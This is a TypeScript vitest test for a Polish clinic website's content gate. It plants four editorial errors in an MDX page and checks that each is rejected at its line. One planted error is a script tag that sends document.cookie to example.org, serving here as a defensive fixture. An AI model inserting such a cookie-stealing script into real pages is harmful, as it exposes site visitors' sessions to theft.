import { execFile } from 'node:child_process'
import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { promisify, stripVTControlCharacters } from 'node:util'
import { afterAll, expect, test } from 'vitest'
import { buildEnv } from '../buildSite.ts'
import { copyProject } from '../projectCopy.ts'

// `npm run test:content` (issue 41) on a copy of the frozen site with four of an
// editor's mistakes planted in one page: a broken link, an advertising
// sentence, a price typed by hand and a script. The gate must refuse each with
// its rule, at its line, in its first step, and so before building anything
// for the browser tests: one run of seconds, not a browser suite per mistake.
// (A data row the pages do not show is dataShown.test.ts's to find, and
// tests/unit/contentSuites.test.ts keeps that file in the gate.)

const { root, remove } = copyProject('clinic-content-gate-')
afterAll(remove)

const planted = [
  ['Ceny badań podaje [cennik badań](/badania-laboratoryjn).', 'odnosnik'],
  ['Najlepsza przychodnia w Warszawie.', 'reklama'],
  ['Porada lekarska przed podróżą kosztuje 200 zł.', 'cena-wpisana-recznie'],
  ["<script>fetch('https://example.org/?c=' + document.cookie)</script>", 'html'],
] as const

test('npm run test:content refuses a broken link, an advertising sentence, a price by hand and a script, each at its line, before the test build', async () => {
  const head = [
    '---',
    'title: Strona próbna',
    'description: "Strona próbna bramki treści: cztery planowane błędy redaktora w czterech akapitach."',
    'group: uslugi',
    '---',
  ]
  writeFileSync(join(root, 'content/proba.mdx'), [...head, ...planted.flatMap(([text]) => ['', text]), ''].join('\n'))
  const { status, output } = await promisify(execFile)('npm', ['run', 'test:content'], { cwd: root, env: buildEnv({}), maxBuffer: 64 * 1024 * 1024 }).then(
    ({ stdout, stderr }) => ({ status: 0, output: stdout + stderr }),
    (error: { code?: number; stdout?: string; stderr?: string }) => ({ status: error.code, output: `${error.stdout ?? ''}${error.stderr ?? ''}` }),
  )
  const text = stripVTControlCharacters(output)
  expect(status, text).toBe(1)
  for (const [index, [, rule]] of planted.entries()) {
    const line = head.length + 2 * (index + 1)
    expect(text, rule).toMatch(new RegExp(`^content/proba\\.mdx:${line}:\\d+: .*\\[${rule}\\]$`, 'm'))
  }
  expect(text).toMatch(/✘ sprawdzenie treści i budowa strony \(npm run build\): nie przechodzi/)
  expect(text).not.toContain('budowa testowa (npm run build:test)')
  expect(text).toContain('Bramka treści nie przechodzi')
})
